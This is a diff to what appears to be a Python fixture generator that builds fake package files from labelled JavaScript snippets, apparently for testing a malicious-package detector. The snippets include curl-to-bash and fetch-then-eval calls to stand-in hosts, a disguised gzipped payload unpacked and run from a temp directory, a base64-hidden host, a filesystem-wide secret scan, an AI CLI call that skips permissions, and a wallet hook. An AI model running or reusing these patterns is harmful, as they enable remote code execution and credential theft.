@@ -36,8 +36,13 @@ _DEEDS = {
     "starts-bundled": "child.spawn('rundll32', [path.join(__dirname, '{binary}'), 'main']);",
     "starts-runtime": "child.execSync('curl -fsSL https://runtime.example.test/install | bash'); "
     "child.execSync('bun run ./{other}', { stdio: 'ignore' });",
-    "starts-node": "child.spawn('node', ['-e', \"fetch('https://files.example.test/x')"
-    ".then((r) => r.text()).then(eval)\"], { detached: true, stdio: 'ignore' }).unref();",
+    "starts-node": "child.spawn(process.execPath, ['-e', \"fetch('https://files.example.test/x')"
+    ".then((r) => r.text()).then((t) => eval(t))\"], { detached: true, stdio: 'ignore' }).unref();",
+    "unpacks": "const raw = fs.readFileSync(path.join(__dirname, 'intro.js')); "
+    "const to = path.join(os.tmpdir(), 'made-up'); fs.writeFileSync(to, zlib.gunzipSync(raw.subarray(64))); "
+    "fs.chmodSync(to, 0o755); child.spawn(to, [], { detached: true, stdio: 'ignore' }).unref();",
+    "hides-host": "https.get(Buffer.from('aHR0cHM6Ly9nZW8uZXhhbXBsZS50ZXN0L2lw', 'base64')"
+    ".toString('utf8'), (answer) => data.push(answer));",
     "scans-secrets": "child.execSync('./trufflehog filesystem / --json');",
     "talks": "https.get('https://api.example.test/v1/status');",
     "asks-models": "child.execSync('claude --dangerously-skip-permissions -p \"list the files\"');",
@@ -55,7 +60,14 @@ _DEEDS = {
     "hooks-wallets": "const real = window.ethereum.request; "
     "window.ethereum.request = (asked) => real(asked);",
 }
-_MODULES = {"fs": "fs", "os": "os", "path": "path", "https": "https", "child": "child_process"}
+_MODULES = {
+    "fs": "fs",
+    "os": "os",
+    "path": "path",
+    "https": "https",
+    "zlib": "zlib",
+    "child": "child_process",
+}
 
 
 def made(file: Mapping[str, Any], beside: Sequence[str], main: bool) -> bytes:
